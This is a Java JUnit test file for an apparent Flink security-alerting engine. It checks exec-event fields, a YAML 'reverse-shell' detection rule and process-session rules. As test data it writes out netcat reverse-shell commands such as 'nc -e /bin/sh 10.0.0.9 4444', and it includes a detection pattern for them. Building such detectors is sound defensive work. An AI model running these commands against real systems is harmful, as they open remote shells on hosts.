package io.akmon.flink.alert;

import io.akmon.flink.alert.rules.RuleParser;
import io.akmon.flink.ingest.Event;
import org.junit.jupiter.api.Test;

import java.util.List;
import java.util.Map;

import static io.akmon.flink.alert.Scenario.SECOND;
import static io.akmon.flink.alert.Scenario.T0;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** Rules see what an exec ran (its filename, its arguments as one string, its uid) and process sessions. */
class ExecFactsTest {
    private static final String RULES = """
            rules:
              - name: reverse-shell
                severity: critical
                key: [host, pid]
                message: "{key.host} {key.pid} ran {run.filename} {run.argv} as uid {run.uid}"
                steps:
                  - name: run
                    type: exec
                    where:
                      filename: {ends_with: "/nc"}
                      argv: {contains: " -e "}
            """;

    private static Event exec(Scenario s, String host, int pid, String uid, String filename, String... argv) {
        Event e = s.event("exec", host, pid, "nc", T0 + pid * SECOND);
        e.ppid = 1;
        e.uid = uid;
        e.filename = filename;
        e.argv = argv;
        return e;
    }

    @Test
    void execFactsCarryFilenameArgvAndUid() {
        Scenario s = new Scenario();
        Fact f = Facts.of(exec(s, "h1", 7, "1000", "/usr/bin/nc", "nc", "-e", "/bin/sh", "10.0.0.9", "4444"));
        assertEquals("/usr/bin/nc", f.get("filename"));
        assertEquals("nc -e /bin/sh 10.0.0.9 4444", f.get("argv"));
        assertEquals("1000", f.get("uid"));
        assertEquals(FactSchema.Kind.STRING, FactSchema.fields("exec").get("filename"));
        assertEquals(FactSchema.Kind.STRING, FactSchema.fields("exec").get("argv"));
    }

    @Test
    void aRuleMatchesOnFilenameAndArguments() throws Exception {
        RuleParser.Result parsed = RuleParser.parse(RULES, "exec.yaml", Map.of());
        assertEquals(List.of(), parsed.errors());
        Scenario s = new Scenario();
        s.add(exec(s, "h1", 7, "1000", "/usr/bin/nc", "nc", "-e", "/bin/sh", "10.0.0.9", "4444"));
        s.add(exec(s, "h1", 8, "1000", "/usr/bin/nc", "nc", "-l", "4444"));          // no -e
        s.add(exec(s, "h1", 9, "0", "/usr/bin/ncat", "ncat", "-e", "/bin/sh", "x")); // another binary
        List<Alert> alerts = s.run(parsed.rules());
        assertEquals(1, alerts.size(), alerts.toString());
        assertEquals("7", String.valueOf(alerts.get(0).keyFields.get("pid")));
        assertTrue(alerts.get(0).message.contains("ran /usr/bin/nc nc -e /bin/sh 10.0.0.9 4444 as uid 1000"),
                alerts.get(0).message);
    }

    @Test
    void rulesMatchProcessSessions() throws Exception {
        String rules = """
                rules:
                  - name: killed-after-long-life
                    severity: warning
                    key: [host, pid]
                    message: "{key.host} {key.pid} {s.exe} killed by {s.exit_signal} after {s.cpu_seconds} s on CPU"
                    steps:
                      - name: s
                        type: process_session
                        where:
                          exited: {eq: true}
                          exit_signal: {eq: 9}
                          children_forked: {ge: 2}
                """;
        RuleParser.Result parsed = RuleParser.parse(rules, "sessions.yaml", Map.of());
        assertEquals(List.of(), parsed.errors());
        Scenario s = new Scenario();
        for (int pid = 1; pid <= 3; pid++) {
            io.akmon.flink.aggregate.SessionAggregate a = new io.akmon.flink.aggregate.SessionAggregate();
            a.id = "session/lifetime/h1/" + pid + "/" + T0;
            a.kind = io.akmon.flink.aggregate.SessionAggregate.KIND;
            a.resolution = io.akmon.flink.aggregate.SessionAggregate.LIFETIME;
            a.host = "h1";
            a.timestamp = T0 + pid * SECOND;
            a.windowEnd = a.timestamp + 10 * SECOND;
            a.pid = pid;
            a.exe = "/usr/bin/w" + pid;
            a.exited = pid != 3;
            a.exitSignal = pid == 2 ? 15 : 9;
            a.childrenForked = 2;
            a.cpuSeconds = 1.5;
            s.add(a);
        }
        assertEquals(FactSchema.PROCESS_SESSION, s.facts.get(0).type);
        List<Alert> alerts = s.run(parsed.rules());
        assertEquals(1, alerts.size(), alerts.toString());
        assertTrue(alerts.get(0).message.contains("/usr/bin/w1 killed by 9 after 1.5 s on CPU"), alerts.get(0).message);
    }

    @Test
    void anUnknownExecFieldIsStillRejected() {
        RuleParser.Result parsed = RuleParser.parse(RULES.replace("filename:", "image:"), "exec.yaml", Map.of());
        assertEquals(1, parsed.errors().size());
        assertTrue(parsed.errors().get(0).toString().contains("unknown field 'image' for type 'exec'"),
                parsed.errors().toString());
    }
}
